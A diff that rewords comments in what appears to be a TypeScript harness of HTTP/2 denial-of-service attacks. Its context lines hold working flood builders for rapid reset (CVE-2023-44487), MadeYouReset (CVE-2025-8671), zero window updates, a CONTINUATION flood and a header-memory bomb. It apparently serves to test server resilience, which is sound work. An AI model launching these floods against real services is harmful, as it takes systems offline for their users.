@@ -16,8 +16,8 @@ const batch = 100
 const json = { 'content-type': 'application/json' }
 
 /**
- * A flood of the same frames over many sessions, each opened again when it is ended. `piece` makes
- * them for a stream; `first` comes once, on stream 1.
+ * A flood of the same frames over many sessions, each opened again when it ends. `piece` makes the
+ * frames of a stream; `first` is sent once, on stream 1.
  */
 function flood(what: string, piece: (stream: number) => Buffer, first?: Buffer): Attack {
   return (caller) =>
@@ -34,21 +34,21 @@ const whole = request('POST', '/sync', { ...json, 'content-length': '2' })
 const unknown = request('GET', '/nothing')
 const bytes = (size: number) => Buffer.alloc(size)
 
-/** CVE-2023-44487, rapid reset: taken back as soon as it is asked. */
+/** CVE-2023-44487, rapid reset: resets each request at once. */
 export const rapidReset = flood('requests', (id) => Buffer.concat([open(id, bare), reset(id)]))
 
-/** The same once the whole body was sent, when the service is at work for it. */
+/** Resets each request after its whole body, when the service works on it. */
 export const resetAfterEnd = flood('requests', (id) => {
   const body = frame('data', endStream, id, Buffer.from('{}'))
   return Buffer.concat([open(id, whole, false), body, reset(id)])
 })
 
-/** CVE-2025-8671, MadeYouReset: has the service do the reset, by a window too large for a stream. */
+/** CVE-2025-8671, MadeYouReset: a window too large for a stream makes the service reset it. */
 export const madeYouReset = flood('requests', (id) =>
   Buffer.concat([open(id, unknown), windowUpdate(id)]),
 )
 
-/** An error of the session, for nghttp2. */
+/** nghttp2 treats these as an error of the session. */
 export const emptyWindowUpdates = flood('requests', (id) =>
   Buffer.concat([open(id, unknown), windowUpdate(id, 0)]),
 )
@@ -67,7 +67,7 @@ export const continuation = flood(
   () => frame('continuation', 0, 1, fields({ a: 'b' })),
   frame('headers', 0, 1, unknown),
 )
-/** What each header takes in memory counts, not only its bytes: each is one byte, from a table. */
+/** Many header fields of one byte each, from the static table, which take much more memory. */
 export const headerBomb = flood('requests', (id) =>
   frame('headers', endHeaders + endStream, id, Buffer.concat([unknown, bytes(4_000).fill(0x90)])),
 )
